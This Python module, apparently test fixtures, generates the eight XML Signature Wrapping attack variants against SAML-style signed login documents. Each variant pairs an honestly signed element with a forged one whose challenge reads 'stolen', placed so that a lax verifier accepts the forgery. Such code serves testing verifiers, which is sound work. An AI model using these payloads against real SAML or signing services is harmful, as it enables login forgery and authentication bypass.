"""Signature wrapping as it has broken SAML services: the eight permutations of SAML Raider, made anew from octets.

Each carries a document that was honestly signed, and beside it another that a careless reader takes for the signed one.
The honest signature is made here as a permissive signing program would make it, over an `Id` of the document element, so
that a careless verifier is really deceived; NCALayer signs the whole document, and the same eight are made of that too.
"""

import base64
import hashlib
from collections.abc import Callable

from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import padding
from lxml import etree

from doubles.nca.keys import Credential

DS = "http://www.w3.org/2000/09/xmldsig#"
NAMESPACE = "urn:zholdama:login:1"
GOOD = b"<purpose>login</purpose><challenge>c-1</challenge>"
EVIL = b"<purpose>login</purpose><challenge>stolen</challenge>"
_C14N = "http://www.w3.org/2001/10/xml-exc-c14n#"
"""As SAML does it: what is signed stays the same wherever it is moved to."""


def element(body: bytes, id: str) -> bytes:
    return f'<login xmlns="{NAMESPACE}" Id="{id}">'.encode() + body + b"</login>"


def canonical(octets: bytes) -> bytes:
    result: bytes = etree.tostring(etree.fromstring(octets), method="c14n", exclusive=True, with_comments=True)
    return result


def signature(covered: bytes, reference: str, key: Credential, content: bytes = b"") -> bytes:
    """A ds:Signature, right in every value, over these octets; `content` travels inside it.

    What travels inside would be taken away by the enveloped transform, so there the reference is made without it.
    """
    enveloped = "" if content else f'<ds:Transform Algorithm="{DS}enveloped-signature"/>'
    digest = base64.b64encode(hashlib.sha256(canonical(covered)).digest()).decode()
    info = (
        f'<ds:SignedInfo xmlns:ds="{DS}"><ds:CanonicalizationMethod Algorithm="{_C14N}"/>'
        '<ds:SignatureMethod Algorithm="http://www.w3.org/2001/04/xmldsig-more#rsa-sha256"/>'
        f'<ds:Reference URI="{reference}"><ds:Transforms>'
        f'{enveloped}<ds:Transform Algorithm="{_C14N}WithComments"/>'
        '</ds:Transforms><ds:DigestMethod Algorithm="http://www.w3.org/2001/04/xmlenc#sha256"/>'
        f"<ds:DigestValue>{digest}</ds:DigestValue></ds:Reference></ds:SignedInfo>"
    ).encode()
    value = base64.b64encode(key.key.sign(canonical(info), padding.PKCS1v15(), hashes.SHA256())).decode()
    bare = info.replace(f' xmlns:ds="{DS}"'.encode(), b"", 1)
    certificate = base64.b64encode(key.der).decode()
    return (
        f'<ds:Signature xmlns:ds="{DS}">'.encode()
        + bare
        + f"<ds:SignatureValue>{value}</ds:SignatureValue><ds:KeyInfo><ds:X509Data>".encode()
        + f"<ds:X509Certificate>{certificate}</ds:X509Certificate></ds:X509Data></ds:KeyInfo>".encode()
        + content
        + b"</ds:Signature>"
    )


def _before_the_end(outer: bytes, more: bytes) -> bytes:
    return outer[: -len(b"</login>")] + more + b"</login>"


Wrap = Callable[[str, Credential], bytes]
WRAPPINGS: dict[str, Wrap] = {}
"""Number of the permutation to how it is made, for a reference to `#good` or to the whole document."""


def _wrapping(make: Wrap) -> Wrap:
    WRAPPINGS[make.__name__] = make
    return make


@_wrapping
def xsw1(reference: str, key: Credential) -> bytes:
    """The evil root holds the signature; the good one travels inside the signature."""
    good = element(GOOD, "good")
    return _before_the_end(element(EVIL, "evil"), signature(good, reference, key, good))


@_wrapping
def xsw2(reference: str, key: Credential) -> bytes:
    """The good one stands before the signature, both in the evil root."""
    good = element(GOOD, "good")
    return _before_the_end(element(EVIL, "evil"), good + signature(good, reference, key))


@_wrapping
def xsw3(reference: str, key: Credential) -> bytes:
    """An evil one is put before the good one that holds its own signature."""
    good = element(GOOD, "good")
    whole = _before_the_end(good, signature(good, reference, key))
    return f'<login xmlns="{NAMESPACE}">'.encode() + element(EVIL, "evil") + whole + b"</login>"


@_wrapping
def xsw4(reference: str, key: Credential) -> bytes:
    """The evil one holds the good one with its signature."""
    good = element(GOOD, "good")
    return _before_the_end(element(EVIL, "evil"), _before_the_end(good, signature(good, reference, key)))


@_wrapping
def xsw5(reference: str, key: Credential) -> bytes:
    """The evil one took the signature; the good one is appended after it."""
    good = element(GOOD, "good")
    evil = _before_the_end(element(EVIL, "evil"), signature(good, reference, key))
    return f'<login xmlns="{NAMESPACE}">'.encode() + evil + good + b"</login>"


@_wrapping
def xsw6(reference: str, key: Credential) -> bytes:
    """The evil one took the signature, and the good one went into it."""
    good = element(GOOD, "good")
    evil = _before_the_end(element(EVIL, "evil"), signature(good, reference, key, good))
    return f'<login xmlns="{NAMESPACE}">'.encode() + evil + b"</login>"


@_wrapping
def xsw7(reference: str, key: Credential) -> bytes:
    """The evil one hides in an extension, which no schema looks into; the good one follows with its signature."""
    good = element(GOOD, "good")
    whole = _before_the_end(good, signature(good, reference, key))
    hidden = b"<Extensions>" + element(EVIL, "good") + b"</Extensions>"
    return f'<login xmlns="{NAMESPACE}">'.encode() + hidden + whole + b"</login>"


@_wrapping
def xsw8(reference: str, key: Credential) -> bytes:
    """The good one travels in an Object of the signature of the evil one."""
    good = element(GOOD, "good")
    box = b"<ds:Object>" + good + b"</ds:Object>"
    return _before_the_end(element(EVIL, "evil"), signature(good, reference, key, box))
